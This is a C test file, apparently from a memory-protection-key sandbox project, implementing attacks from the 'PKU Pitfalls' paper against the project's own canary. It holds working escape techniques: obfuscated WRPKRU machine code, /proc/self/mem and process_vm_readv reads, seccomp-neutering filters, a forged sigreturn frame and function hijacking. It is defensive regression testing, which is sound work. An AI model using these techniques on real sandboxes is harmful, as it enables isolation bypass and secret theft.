/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * pitfalls.c - the ideas of the "PKU Pitfalls" paper (Connor et al., USENIX
 * Security 2020), and what a plugin's constructor can leave behind for
 * later, tried against pkbox-run's canary (tests/pkbox-run/check-pitfalls.sh)
 * and against a host of the C API (tests/attacks/pitfalls-host.c).
 *
 * Every attack NAME has two halves: set-up (the steps that need the
 * syscalls, mappings or processes the policy is about) and use (what turns
 * the set-up into the canary).  Two ways to run it:
 *
 *   pkbox-run --canary libpkbox-pitfalls.so pf_NAME
 *       both halves from the entry point, in the sealed process;
 *   PKBOX_PITFALL_CTOR=NAME pkbox-run --canary libpkbox-pitfalls.so pf_use
 *       the set-up from this object's constructor, the use from pf_use.
 *
 * The canary's address is in PKBOX_CANARY; a constructor may run before it
 * exists, and then aims at the library's pool instead.  An attack that gets
 * the canary prints it (hex) and returns 0.  Every use half ends with a plain
 * read of the canary: it faults where the defence held (the call ends as a
 * violation) and shows the canary where the set-up opened it.
 *
 * Bounded in time: helpers, siblings and threads give up after a deadline
 * and stop when their parent is gone; nothing here touches files but a
 * temporary one it creates and unlinks.
 */
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <link.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>

#define POOL 0x500000000000UL /* the library's pool (doc/THREAT_MODEL.md) */
#define PG 4096UL

/* ---------------------------------------------------------------- helpers */

static uint8_t *canary(void)
{
	const char *v = getenv("PKBOX_CANARY");
	return v ? (uint8_t *)strtoul(v, NULL, 16) : NULL;
}

/* what a constructor aims at: the canary when it exists, else host memory */
static uintptr_t target(void)
{
	return canary() ? (uintptr_t)canary() : POOL;
}

static void show(const uint8_t *b)
{
	for (int i = 0; i < 32; i++)
		printf("%02x", b[i]);
	printf("\n");
	fflush(stdout);
}

/* the use halves end here: shows the canary if it is readable now */
static int finish(void)
{
	uint8_t b[32];
	volatile uint8_t *c = canary();

	if (!c)
		return 3;
	for (int i = 0; i < 32; i++)
		b[i] = c[i];
	show(b);
	return 0;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void nap_ms(long ms)
{
	struct timespec t = { ms / 1000, (ms % 1000) * 1000000L };

	syscall(SYS_nanosleep, &t, NULL);
}

/* 1 when a seccomp filter is in force for the calling task */
static int filtered(void)
{
	return syscall(SYS_prctl, PR_GET_SECCOMP, 0, 0, 0, 0) == 2;
}

/* Machine code, kept XOR-ed here so that this object's own segments hold no
 * PKRU-writing instruction: "xor eax,eax; xor ecx,ecx; xor edx,edx; wrpkru;
 * ret" (every key opened) and a plain "ret". */
#define K 0x5a
static const uint8_t unlock_x[] = { 0x31 ^ K, 0xc0 ^ K, 0x31 ^ K, 0xc9 ^ K, 0x31 ^ K,
				    0xd2 ^ K, 0x0f ^ K, 0x01 ^ K, 0xef ^ K, 0xc3 ^ K };
#define UNLOCK_LEN sizeof(unlock_x)
#define WRPKRU_AT 6 /* offset of 0f 01 ef in it */

static void put_unlock(volatile uint8_t *dst)
{
	for (size_t i = 0; i < UNLOCK_LEN; i++)
		dst[i] = unlock_x[i] ^ K;
}

static void call_code(const void *p)
{
	__asm__ volatile("call *%0" : : "r"(p) : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory");
}

/* A page shared with children (MAP_SHARED): where they leave what they got. */
struct mbox {
	volatile int done;   /* 1: bytes are in b */
	volatile int ready;  /* a helper's own signal */
	volatile uintptr_t addr;
	uint8_t b[32];
};
static struct mbox *mb;

static int mbox_make(void)
{
	if (mb)
		return 0;
	void *p = mmap(NULL, PG, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED)
		return -1;
	mb = p;
	return 0;
}

/* waits up to sec seconds for mb->done; shows the bytes if they came */
static int mbox_wait(double sec)
{
	double end = now() + sec;

	while (mb && !mb->done && now() < end)
		nap_ms(10);
	if (mb && mb->done) {
		show(mb->b);
		return 1;
	}
	return 0;
}

/* Reads 32 bytes at src without faulting: through a pipe, which the kernel
 * copies from with ordinary access checks (EFAULT where the memory is
 * hidden).  Raw syscalls: callers may run on another task's TLS. */
static int probe_fds[2] = { -1, -1 };

static int probe_read(uintptr_t src, uint8_t *out)
{
	if (syscall(SYS_write, probe_fds[1], src, 32) != 32)
		return -1;
	return syscall(SYS_read, probe_fds[0], out, 32) == 32 ? 0 : -1;
}

/* the canary's address, read from the environment without libc's locale
 * or TLS (a sibling on the parent's TLS, a raw thread) */
static uintptr_t env_canary(void)
{
	extern char **environ;
	char **e = environ;

	for (int i = 0; e && e[i]; i++) {
		const char *s = e[i];
		if (strncmp(s, "PKBOX_CANARY=0x", 15))
			continue;
		uintptr_t v = 0;
		for (s += 15; *s; s++)
			v = v * 16 + (uintptr_t)(*s <= '9' ? *s - '0' : (*s | 0x20) - 'a' + 10);
		return v;
	}
	return 0;
}

/* A task on a stack of its own, made with a raw clone (no libc set-up):
 * flags CLONE_VM|SIGCHLD for a process that shares the address space, the
 * thread flags for a thread.  fn never returns. */
static long raw_clone(unsigned long flags, void (*fn)(void))
{
	uint8_t *stk = mmap(NULL, 1 << 18, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (stk == MAP_FAILED)
		return -ENOMEM;
	uintptr_t *top = (uintptr_t *)(stk + (1 << 18) - 64);
	top[0] = (uintptr_t)fn;
	long r;
	register long r10 __asm__("r10") = 0;
	register long r8 __asm__("r8") = 0;
	__asm__ volatile("syscall\n\t"
			 "testq %%rax, %%rax\n\t"
			 "jnz 1f\n\t"
			 "popq %%rax\n\t"
			 "andq $-16, %%rsp\n\t"
			 "xorl %%ebp, %%ebp\n\t"
			 "call *%%rax\n\t"
			 "ud2\n"
			 "1:"
			 : "=a"(r)
			 : "a"((long)SYS_clone), "D"(flags), "S"(top), "d"(0L), "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
	return r;
}

#define THREAD_FLAGS (CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM)

/* ends a helper; a raw thread only parks (its end would end nothing more).
 * Where the policy refuses the exit, it keeps asking, slowly: the check
 * scripts end what is left of its session. */
__attribute__((noreturn)) static void helper_exit(void)
{
	for (;;) {
		syscall(SYS_exit_group, 0);
		nap_ms(100);
	}
}

__attribute__((noreturn)) static void thread_park(double end)
{
	while (now() < end)
		nap_ms(100);
	for (;;)
		syscall(SYS_exit, 0);
}

/* a child's safety net: SIGKILL when its parent goes, where it may ask */
static void die_with_parent(void)
{
	if (!filtered())
		syscall(SYS_prctl, PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
}

static pid_t parent_pid;

static int parent_gone(void)
{
	return syscall(SYS_getppid) != parent_pid;
}

/* ---------------------------------------------------------------- the attacks */

/* basecase: read it */
static void basecase_setup(void)
{
	/* from a constructor: host memory (the canary, or the pool) */
	volatile uint8_t *p = (volatile uint8_t *)target();
	(void)*p;
}
static int basecase_use(void)
{
	return finish();
}

/* pkey_mprotect: give the secret's page key 0 and read/write rights */
static long pk_rc;
static void pkey_mprotect_setup(void)
{
	pk_rc = syscall(SYS_pkey_mprotect, target() & ~(PG - 1), PG, PROT_READ | PROT_WRITE, 0);
}
static int pkey_mprotect_use(void)
{
	return finish();
}

/* mprotect32: i386 mprotect (int 0x80) makes new code below 4 GiB executable */
static uint8_t *m32_page;
static long m32_rc = -1;
static void mprotect32_setup(void)
{
	m32_page = mmap(NULL, PG, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (m32_page == MAP_FAILED) {
		m32_page = NULL;
		return;
	}
	put_unlock(m32_page);
	long r;
	__asm__ volatile("int $0x80"
			 : "=a"(r)
			 : "a"(125L), "b"((long)(uintptr_t)m32_page), "c"((long)PG), "d"((long)(PROT_READ | PROT_EXEC))
			 : "memory");
	m32_rc = r;
}
static int mprotect32_use(void)
{
	if (m32_page && m32_rc == 0)
		call_code(m32_page);
	return finish();
}

/* mremap: two clean code pages, joined afterwards into one WRPKRU */
static uint8_t *mr_join;
static void mremap_setup(void)
{
	uint8_t *p1 = mmap(NULL, 2 * PG, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	uint8_t *p2 = mmap(NULL, PG, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p1 == MAP_FAILED || p2 == MAP_FAILED)
		return;
	uint8_t code[UNLOCK_LEN];
	put_unlock(code);
	/* up to "0f 01" at the end of p1, "ef c3" at the start of p2 */
	memcpy(p1 + PG - (WRPKRU_AT + 2), code, WRPKRU_AT + 2);
	memcpy(p2, code + WRPKRU_AT + 2, UNLOCK_LEN - (WRPKRU_AT + 2));
	if (mprotect(p1, PG, PROT_READ | PROT_EXEC) || mprotect(p2, PG, PROT_READ | PROT_EXEC))
		return;
	munmap(p1 + PG, PG);
	void *r = mremap(p2, PG, PG, MREMAP_MAYMOVE | MREMAP_FIXED, p1 + PG);
	if (r != MAP_FAILED)
		mr_join = p1 + PG - (WRPKRU_AT + 2);
}
static int mremap_use(void)
{
	if (mr_join)
		call_code(mr_join);
	return finish();
}

/* proc_mem: /proc/self/mem ignores page protections and keys */
static int pm_fd = -1;
static void proc_mem_setup(void)
{
	pm_fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
}
static int proc_mem_use(void)
{
	uint8_t b[32];

	if (pm_fd >= 0 && canary() && pread(pm_fd, b, 32, (off_t)(uintptr_t)canary()) == 32) {
		show(b);
		return 0;
	}
	return finish();
}

/* vm_readv: process_vm_readv on itself */
static int vm_read(uintptr_t src, uint8_t *b)
{
	struct iovec l = { b, 32 }, r = { (void *)src, 32 };
	return syscall(SYS_process_vm_readv, getpid(), &l, 1, &r, 1, 0) == 32 ? 0 : -1;
}
static void vm_readv_setup(void)
{
	uint8_t b[32];
	if (!vm_read(target(), b) && canary())
		show(b);
}
static int vm_readv_use(void)
{
	uint8_t b[32];

	if (canary() && !vm_read((uintptr_t)canary(), b)) {
		show(b);
		return 0;
	}
	return finish();
}

/* file_backed: code mapped from a file, which is written afterwards */
static int fb_fd = -1;
static uint8_t *fb_code;
static void file_backed_setup(void)
{
	const char *dir = getenv("TMPDIR");
	char path[512];

	snprintf(path, sizeof(path), "%s/pkbox-pitfall-XXXXXX", dir && *dir ? dir : "/tmp");
	fb_fd = mkstemp(path);
	if (fb_fd < 0)
		return;
	unlink(path); /* ours alone, and gone when we are */
	uint8_t page[PG];
	memset(page, 0xc3, sizeof(page));
	if (pwrite(fb_fd, page, sizeof(page), 0) != (ssize_t)sizeof(page))
		return;
	void *p = mmap(NULL, PG, PROT_READ | PROT_EXEC, MAP_PRIVATE, fb_fd, 0);
	if (p != MAP_FAILED)
		fb_code = p;
}
static int file_backed_use(void)
{
	if (fb_code) {
		call_code(fb_code); /* a plain ret, as inspected */
		uint8_t code[UNLOCK_LEN];
		put_unlock(code);
		if (pwrite(fb_fd, code, sizeof(code), 0) == (ssize_t)sizeof(code))
			call_code(fb_code);
	}
	return finish();
}

/* shared_memory: a shared page made executable here, rewritten by a child
 * that makes its own view of it writable */
static uint8_t *sm_page;
static int sm_req[2] = { -1, -1 };
static void sm_child(void)
{
	struct pollfd p = { sm_req[0], POLLIN, 0 };
	double end = now() + 20;
	char c;

	die_with_parent();
	while (now() < end && !parent_gone())
		if (syscall(SYS_poll, &p, 1, 100) == 1 && syscall(SYS_read, sm_req[0], &c, 1) == 1) {
			if (!syscall(SYS_mprotect, sm_page, PG, PROT_READ | PROT_WRITE))
				put_unlock(sm_page);
			mb->ready = 1;
			break;
		}
	helper_exit();
}
static void shared_memory_setup(void)
{
	if (mbox_make() || pipe(sm_req))
		return;
	uint8_t *p = mmap(NULL, PG, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED)
		return;
	p[0] = 0xc3;
	if (mprotect(p, PG, PROT_READ | PROT_EXEC))
		return;
	sm_page = p;
	parent_pid = getpid();
	if (syscall(SYS_fork) == 0)
		sm_child();
}
static int shared_memory_use(void)
{
	if (sm_page) {
		call_code(sm_page);
		if (write(sm_req[1], "x", 1) == 1) {
			double end = now() + 5;
			while (!mb->ready && now() < end)
				nap_ms(10);
		}
		call_code(sm_page);
	}
	return finish();
}

/* map_race: a thread keeps making new writable and executable pages while
 * the seal looks at the process; the newest gets WRPKRU once it is sealed */
static volatile uint8_t *race_page;
static volatile int race_done;
static void map_race_thread(void)
{
	double end = now() + 10;
	uint8_t *last = NULL;

	while (now() < end && !filtered()) {
		long p = syscall(SYS_mmap, 0, PG, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p < 0 && p > -4096)
			break;
		((uint8_t *)p)[0] = 0xc3;
		if (last)
			syscall(SYS_munmap, last, PG);
		last = (uint8_t *)p;
		race_page = last;
	}
	if (last)
		put_unlock(last);
	race_done = 1;
	thread_park(now() + 20);
}
static void map_race_setup(void)
{
	raw_clone(THREAD_FLAGS, map_race_thread);
}
static int map_race_use(void)
{
	double end = now() + 5;

	while (!race_done && now() < end)
		nap_ms(10);
	if (race_done && race_page)
		call_code((const void *)race_page);
	return finish();
}

/* scan_race: a clean writable and executable page whose one byte becomes
 * WRPKRU's first once the seal has scanned it */
static volatile uint8_t *scan_page;
static void scan_race_thread(void)
{
	double end = now() + 10;

	while (now() < end && !filtered())
		nap_ms(1);
	put_unlock(scan_page);
	race_done = 1;
	thread_park(now() + 20);
}
static void scan_race_setup(void)
{
	void *p = mmap(NULL, PG, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED)
		return;
	scan_page = p;
	put_unlock(scan_page);
	scan_page[WRPKRU_AT] = 0x90; /* "nop; add %ebp,%edi" until then */
	raw_clone(THREAD_FLAGS, scan_race_thread);
}
static int scan_race_use(void)
{
	double end = now() + 5;

	while (!race_done && now() < end)
		nap_ms(10);
	if (race_done && scan_page)
		call_code((const void *)scan_page);
	return finish();
}

/* seccomp: a filter of its own makes the library's protection changes on
 * its pool that take rights away (PROT_NONE) return 0 without effect */
#define LDW(off) BPF_STMT(BPF_LD | BPF_W | BPF_ABS, (off))
#define JEQ(v, t, f) BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (v), (t), (f))
#define RET(v) BPF_STMT(BPF_RET | BPF_K, (v))
#define ARG_LO(n) (offsetof(struct seccomp_data, args) + 8 * (n))
#define ARG_HI(n) (offsetof(struct seccomp_data, args) + 8 * (n) + 4)
static long own_filter(struct sock_filter *f, unsigned short n)
{
	struct sock_fprog prog = { .len = n, .filter = f };

	syscall(SYS_prctl, PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog);
}
static long sc_rc = -1;
static void seccomp_setup(void)
{
	struct sock_filter f[] = {
		/* 0 */ LDW(offsetof(struct seccomp_data, nr)),
		/* 1 */ JEQ(SYS_mprotect, 1, 0),
		/* 2 */ JEQ(SYS_pkey_mprotect, 0, 5),
		/* 3 */ LDW(ARG_HI(0)),
		/* 4 */ BPF_JUMP(BPF_JMP | BPF_JGE | BPF_K, (uint32_t)(POOL >> 32), 0, 3),
		/* 5 */ BPF_JUMP(BPF_JMP | BPF_JGE | BPF_K, (uint32_t)((POOL + (512UL << 30)) >> 32), 2, 0),
		/* 6 */ LDW(ARG_LO(2)),
		/* 7 */ JEQ(PROT_NONE, 1, 0),
		/* 8 */ RET(SECCOMP_RET_ALLOW),
		/* 9 */ RET(SECCOMP_RET_ERRNO | 0),
	};
	sc_rc = own_filter(f, sizeof(f) / sizeof(f[0]));
}
static int seccomp_use(void)
{
	return finish();
}

/* sighandler: a handler of its own (runs with the kernel's default PKRU),
 * and the library's handler called directly as a confused deputy */
static void own_handler(int sig, siginfo_t *si, void *uc)
{
	(void)sig; (void)si; (void)uc;
	if (canary())
		show(canary());
	helper_exit();
}
static void sighandler_setup(void)
{
	struct sigaction sa;

	memset(&sa, 0, sizeof(sa));
	sa.sa_sigaction = own_handler;
	sa.sa_flags = SA_SIGINFO;
	sigaction(SIGSEGV, &sa, NULL);
	sigaction(SIGUSR1, &sa, NULL);
}
static int sighandler_use(void)
{
	struct sigaction cur;

	/* the handler in place now: if it is not ours, call it with a fault
	 * the host would have: an access to the canary, from host code */
	if (!sigaction(SIGSEGV, NULL, &cur) && (cur.sa_flags & SA_SIGINFO) && cur.sa_sigaction != own_handler &&
	    canary()) {
		siginfo_t si;
		static ucontext_t uc;
		memset(&si, 0, sizeof(si));
		si.si_signo = SIGSEGV;
		si.si_code = SEGV_ACCERR;
		si.si_addr = canary();
		getcontext(&uc);
		cur.sa_sigaction(SIGSEGV, &si, &uc);
	}
	return finish();
}

/* sigreturn: a forged frame whose XSAVE area holds PKRU 0 (every key open) */
static volatile int sr_landed;
static long sr_rc = 1;
static void forge_sigreturn(void)
{
	static uint8_t frame[16384] __attribute__((aligned(64)));
	static ucontext_t here;
	ucontext_t *fu = (ucontext_t *)frame;
	uint8_t *xs = frame + 8192;

	sr_landed = 0;
	getcontext(&here);
	if (sr_landed) {
		sr_rc = 0;
		return;
	}
	sr_landed = 1;
	memset(frame, 0, sizeof(frame));
	memcpy(fu, &here, sizeof(here));
	fu->uc_mcontext.gregs[REG_CSGSFS] = 0x33 | (0x2bLL << 48);
	fu->uc_mcontext.gregs[REG_EFL] = 0x202;
	/* the XSAVE area's software bytes (magic, sizes, features x87, SSE and
	 * PKRU), header (XSTATE_BV), and the PKRU component at 2688: zero */
	uint32_t magic1 = 0x46505853U, xsz = 2696, ext = 2700, mxcsr = 0x1f80, magic2 = 0x46505845U;
	uint64_t feat = 3 | (1ULL << 9);
	memcpy(xs + 24, &mxcsr, 4);
	memcpy(xs + 464, &magic1, 4);
	memcpy(xs + 468, &ext, 4);
	memcpy(xs + 472, &feat, 8);
	memcpy(xs + 480, &xsz, 4);
	memcpy(xs + 512, &feat, 8);
	memcpy(xs + xsz, &magic2, 4);
	fu->uc_mcontext.fpregs = (fpregset_t)xs;
	fu->uc_flags = 0;
	fu->uc_stack.ss_flags = SS_DISABLE;
	long r;
	/* rt_sigreturn takes the frame's return address at rsp - 8 and the
	 * ucontext at rsp */
	__asm__ volatile("movq %1, %%rsp\n\t"
			 "movl $15, %%eax\n\t"
			 "syscall\n\t"
			 "ud2"
			 : "=a"(r)
			 : "r"(frame)
			 : "memory");
}
static void sigreturn_setup(void)
{
	forge_sigreturn();
}
static int sigreturn_use(void)
{
	return finish();
}

/* ---------------------------------------------------------------- before the seal */

/* helper: a child that reads its parent through /proc/PID/mem (opened
 * while it could) or process_vm_readv, on request over a pipe */
static int hp_req[2] = { -1, -1 }, hp_ans[2] = { -1, -1 };
static void helper_child(void)
{
	char path[64];
	uintptr_t a;
	uint8_t b[32];
	struct pollfd p = { hp_req[0], POLLIN, 0 };
	double end = now() + 20;

	die_with_parent();
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)parent_pid);
	int fd = (int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
	while (now() < end && !parent_gone()) {
		if (syscall(SYS_poll, &p, 1, 100) != 1)
			continue;
		if (syscall(SYS_read, hp_req[0], &a, sizeof(a)) != sizeof(a))
			break;
		int ok = fd >= 0 && syscall(SYS_pread64, fd, b, 32, a) == 32;
		if (!ok && !filtered()) {
			struct iovec l = { b, 32 }, r = { (void *)a, 32 };
			ok = syscall(SYS_process_vm_readv, parent_pid, &l, 1, &r, 1, 0) == 32;
		}
		if (ok)
			syscall(SYS_write, hp_ans[1], b, 32);
		else
			syscall(SYS_write, hp_ans[1], "", 1);
	}
	helper_exit();
}
static void helper_setup(void)
{
	if (pipe(hp_req) || pipe(hp_ans))
		return;
	parent_pid = getpid();
	if (syscall(SYS_fork) == 0)
		helper_child();
}
static int helper_use(void)
{
	uintptr_t a = (uintptr_t)canary();
	uint8_t b[32];
	struct pollfd p = { hp_ans[0], POLLIN, 0 };

	if (hp_req[1] >= 0 && a && write(hp_req[1], &a, sizeof(a)) == sizeof(a) && poll(&p, 1, 5000) == 1 &&
	    read(hp_ans[0], b, 32) == 32) {
		show(b);
		return 0;
	}
	return finish();
}

/* clonevm: a process (not a thread: no CLONE_THREAD, so the seal's filter,
 * which reaches the threads of this process, does not reach it) sharing the
 * address space; it reads the canary through its own /proc/self/mem */
static void clonevm_child(void)
{
	uint8_t b[32];
	double end = now() + 15;

	die_with_parent();
	int fd = (int)syscall(SYS_openat, AT_FDCWD, "/proc/self/mem", O_RDONLY);
	while (now() < end && !parent_gone()) {
		uintptr_t a = env_canary();
		if (a && ((fd >= 0 && syscall(SYS_pread64, fd, b, 32, a) == 32) || !probe_read(a, b))) {
			memcpy(mb->b, b, 32);
			mb->done = 1;
			break;
		}
		nap_ms(1);
	}
	helper_exit();
}
static void clonevm_setup(void)
{
	if (mbox_make() || pipe(probe_fds))
		return;
	parent_pid = getpid();
	raw_clone(CLONE_VM | SIGCHLD, clonevm_child);
}
static int clonevm_use(void)
{
	if (mb && mbox_wait(5))
		return 0;
	return finish();
}

/* seccomp_neuter: a filter of its own makes seccomp(), prctl(PR_SET_SECCOMP)
 * and landlock_restrict_self() return 0 without effect: the seal would put
 * nothing in force and not know it */
#ifndef SYS_landlock_restrict_self
#define SYS_landlock_restrict_self 446
#endif
static long sn_rc = -1;
static void seccomp_neuter_setup(void)
{
	struct sock_filter f[] = {
		/* 0 */ LDW(offsetof(struct seccomp_data, nr)),
		/* 1 */ JEQ(SYS_seccomp, 4, 0),
		/* 2 */ JEQ(SYS_landlock_restrict_self, 12, 0),
		/* 3 */ JEQ(SYS_prctl, 0, 10),
		/* 4 */ LDW(ARG_LO(0)),
		/* 5 */ JEQ(PR_SET_SECCOMP, 9, 8),
		/* seccomp(): SECCOMP_SET_MODE_FILTER with a program only; what
		 * libseccomp asks to learn what the kernel has goes through */
		/* 6 */ LDW(ARG_LO(0)),
		/* 7 */ JEQ(SECCOMP_SET_MODE_FILTER, 0, 6),
		/* 8 */ LDW(ARG_LO(2)),
		/* 9 */ JEQ(0, 0, 5),
		/* 10 */ LDW(ARG_HI(2)),
		/* 11 */ JEQ(0, 1, 3),
		/* 12 */ RET(SECCOMP_RET_ALLOW),
		/* 13 */ RET(SECCOMP_RET_ALLOW),
		/* 14 */ RET(SECCOMP_RET_ALLOW),
		/* 15 */ RET(SECCOMP_RET_ERRNO | 0),
	};
	sn_rc = own_filter(f, sizeof(f) / sizeof(f[0]));
}
static int seccomp_neuter_use(void)
{
	uint8_t b[32];

	if (canary() && !vm_read((uintptr_t)canary(), b)) {
		show(b);
		return 0;
	}
	int fd = open("/proc/self/mem", O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && canary() && pread(fd, b, 32, (off_t)(uintptr_t)canary()) == 32) {
		show(b);
		return 0;
	}
	return finish();
}

/* rseq: glibc's __rseq_size made to say 0 (no rseq), which the seal reads
 * to decide whether threads may be left with an rseq area; then a raw
 * thread of its own, which the seal's thread check would have refused,
 * survives it and reads the canary whenever the host has it visible */
static volatile int rs_zeroed;
static void rseq_thread(void)
{
	double end = now() + 15;
	uint8_t b[32];

	while (now() < end) {
		uintptr_t a = env_canary();
		if (a && !probe_read(a, b)) {
			memcpy(mb->b, b, 32);
			mb->done = 1;
			break;
		}
		nap_ms(1);
	}
	thread_park(now() + 20);
}
static void rseq_setup(void)
{
	unsigned int *sz = dlsym(RTLD_DEFAULT, "__rseq_size");

	if (mbox_make() || pipe(probe_fds))
		return;
	if (sz && *sz) {
		uintptr_t pg = (uintptr_t)sz & ~(PG - 1);
		if (!mprotect((void *)pg, PG, PROT_READ | PROT_WRITE)) {
			*sz = 0;
			rs_zeroed = 1;
			mprotect((void *)pg, PG, PROT_READ);
		}
	}
	raw_clone(THREAD_FLAGS, rseq_thread);
}
static int rseq_use(void)
{
	if (mb && mbox_wait(3))
		return 0;
	return finish();
}

/* codepatch: the host's code made writable before the seal; after the
 * inspection the entry point rewrites pkbox_last_fault() and pkbox_exit()
 * to jump here, and the host runs that with its own rights when it reports
 * the fault the use half ends with, or on its way out */
__attribute__((noreturn)) void pitfalls_hijack(void);
__attribute__((noreturn)) void pitfalls_hijack(void)
{
	static int once;
	char line[80];
	const uint8_t *c = (const uint8_t *)env_canary();

	if (c && !once++) {
		for (int i = 0; i < 32; i++) {
			line[2 * i] = "0123456789abcdef"[c[i] >> 4];
			line[2 * i + 1] = "0123456789abcdef"[c[i] & 15];
		}
		line[64] = '\n';
		syscall(SYS_write, 1, line, 65);
	}
	helper_exit();
}
static const char *const cp_names[] = { "pkbox_last_fault", "pkbox_exit" };
static uint8_t *cp_fn[2];
static void codepatch_setup(void)
{
	for (int i = 0; i < 2; i++) {
		uint8_t *f = dlsym(RTLD_DEFAULT, cp_names[i]);
		uintptr_t pg = (uintptr_t)f & ~(PG - 1);
		if (f && !mprotect((void *)pg, 2 * PG, PROT_READ | PROT_WRITE | PROT_EXEC))
			cp_fn[i] = f;
	}
}
static int codepatch_use(void)
{
	for (int k = 0; k < 2; k++) {
		volatile uint8_t *p = cp_fn[k];
		if (!p)
			continue;
		/* movabs $pitfalls_hijack, %rax; jmp *%rax */
		uint64_t to = (uint64_t)(uintptr_t)pitfalls_hijack;
		p[0] = 0x48;
		p[1] = 0xb8;
		for (int i = 0; i < 8; i++)
			p[2 + i] = (uint8_t)(to >> (8 * i));
		p[10] = 0xff;
		p[11] = 0xe0;
	}
	return finish();
}

/* sigdfl: the library's fault handlers put back to SIG_DFL, then a fault:
 * the kernel would end the host */
static void sigdfl_setup(void)
{
	static const int sigs[] = { SIGSEGV, SIGBUS, SIGILL, SIGFPE, SIGTRAP };
	struct sigaction sa;

	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = SIG_DFL;
	for (size_t i = 0; i < sizeof(sigs) / sizeof(sigs[0]); i++)
		sigaction(sigs[i], &sa, NULL);
}
static int sigdfl_use(void)
{
	return finish();
}

/* forkspin: a child that spins (a few seconds at most: a failing defence
 * must not hang the suite) and does not ask to die with its parent */
static void forkspin_setup(void)
{
	parent_pid = getpid();
	if (syscall(SYS_fork) == 0) {
		double end = now() + 5;
		while (now() < end)
			__asm__ volatile("" ::: "memory");
		helper_exit();
	}
}
static int forkspin_use(void)
{
	return finish();
}

/* mapcount: mappings until the kernel's limit (vm.max_map_count, 65530 by
 * default), so that the library's own protection changes fail */
static long mc_count;
static void mapcount_setup(void)
{
	/* one page each, read-only and inaccessible by turns so that
	 * neighbours do not merge; nothing unmapped (munmap may be refused) */
	for (long i = 0; i < (1L << 17); i++) {
		void *p = mmap(NULL, PG, (i & 1) ? PROT_READ : PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
		if (p == MAP_FAILED)
			break;
		mc_count++;
	}
}
static int mapcount_use(void)
{
	return finish();
}

/* rwx: a writable and executable page, and an executable MAP_SHARED view of
 * a memfd beside a writable one, both clean when inspected; WRPKRU is
 * written into them later */
static uint8_t *rwx_page, *rwx_exec, *rwx_write;
static void rwx_setup(void)
{
	void *p = mmap(NULL, PG, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p != MAP_FAILED) {
		rwx_page = p;
		rwx_page[0] = 0xc3;
	}
	int fd = memfd_create("pitfall", MFD_CLOEXEC);
	if (fd < 0 || ftruncate(fd, PG))
		return;
	void *w = mmap(NULL, PG, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	void *x = mmap(NULL, PG, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0);
	close(fd);
	if (w == MAP_FAILED || x == MAP_FAILED)
		return;
	rwx_write = w;
	rwx_exec = x;
	rwx_write[0] = 0xc3;
}
static int rwx_use(void)
{
	if (rwx_page) {
		put_unlock(rwx_page);
		call_code(rwx_page);
	}
	if (rwx_exec) {
		put_unlock(rwx_write);
		call_code(rwx_exec);
	}
	return finish();
}

/* procfd: /proc/self/mem opened early and kept: the canary changed later */
static int pf_fd = -1;
static void procfd_setup(void)
{
	pf_fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
}
static int procfd_use(void)
{
	uint8_t b[32];

	if (pf_fd >= 0 && canary() && pread(pf_fd, b, 32, (off_t)(uintptr_t)canary()) == 32) {
		b[0] ^= 1;
		if (pwrite(pf_fd, b, 1, (off_t)(uintptr_t)canary()) == 1)
			return 0; /* changed: pkbox-run's canary line says so */
	}
	return finish();
}

/* ---------------------------------------------------------------- the table */

struct pitfall {
	const char *name;
	void (*setup)(void);
	int (*use)(void);
};

#define P(n) { #n, n##_setup, n##_use }
static const struct pitfall pitfalls[] = {
	P(basecase), P(pkey_mprotect), P(mprotect32), P(mremap), P(proc_mem), P(vm_readv), P(file_backed),
	P(shared_memory), P(map_race), P(scan_race), P(seccomp), P(sighandler), P(sigreturn), P(helper),
	P(clonevm), P(seccomp_neuter), P(rseq), P(codepatch), P(sigdfl), P(forkspin), P(mapcount), P(rwx),
	P(procfd),
};

static const struct pitfall *from_ctor;

static const struct pitfall *find(const char *name)
{
